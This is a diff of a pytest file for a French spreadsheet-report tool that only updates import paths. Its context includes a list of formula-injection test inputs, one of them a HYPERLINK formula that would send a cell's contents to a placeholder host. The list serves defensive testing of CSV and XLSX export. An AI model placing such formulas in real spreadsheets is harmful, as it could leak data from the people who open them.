@@ -10,7 +10,7 @@ import pytest
 
 from openpyxl import load_workbook
 
-from reports.tables import read_csv_number, write_csv, write_xlsx
+from ecarts.reports.tables import read_csv_number, write_csv, write_xlsx
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"Cliquez")', "+33 6 12 34 56 78", "-2+3", "@SUM(A1:A2)",
            "\tcmd", "\rligne", "Peinture acrylique = finition"]
@@ -69,8 +69,8 @@ def test_csv_opens_as_numbers_and_accents_in_a_french_spreadsheet(tmp_path: Path
 
 def test_report_csv_numbers_use_the_decimal_comma(sample_db: Path, tmp_path: Path) -> None:
     """ecarts.csv and the dossier tables: every number cell reads as a number in a French spreadsheet."""
-    from reports.summary import write_report
-    from warehouse.db import open_warehouse
+    from ecarts.reports.summary import write_report
+    from ecarts.warehouse.db import open_warehouse
 
     with open_warehouse(sample_db, read_only=True) as wh:
         written = write_report(wh, tmp_path, "75")
